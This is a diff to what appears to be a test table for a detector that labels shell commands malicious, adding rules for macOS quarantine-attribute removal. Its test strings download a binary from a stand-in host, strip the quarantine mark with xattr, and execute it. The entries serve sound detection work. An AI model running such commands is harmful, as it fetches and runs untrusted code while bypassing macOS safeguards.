@@ -124,8 +124,15 @@ COVERAGE = [
         Level.MALICIOUS,
     ),
     (
-        "curl -o /tmp/u https://evil.test/u && xattr -c /tmp/u && chmod +x /tmp/u && /tmp/u",
+        "curl -o ~/Library/u https://evil.test/u && xattr -c ~/Library/u && chmod +x ~/Library/u && ~/Library/u",
         "PG-MAC-QUARANTINE-REMOVAL",
+        Level.MALICIOUS,
+    ),
+    # (from /tmp, ~/Downloads or a disk image the mark stripped and the program run at once is
+    # the more exact finding of the same group)
+    (
+        "curl -o /tmp/u https://evil.test/u && xattr -c /tmp/u && chmod +x /tmp/u && /tmp/u",
+        "PG-LOL-XATTR-QUARANTINE-OPEN",
         Level.MALICIOUS,
     ),
     (
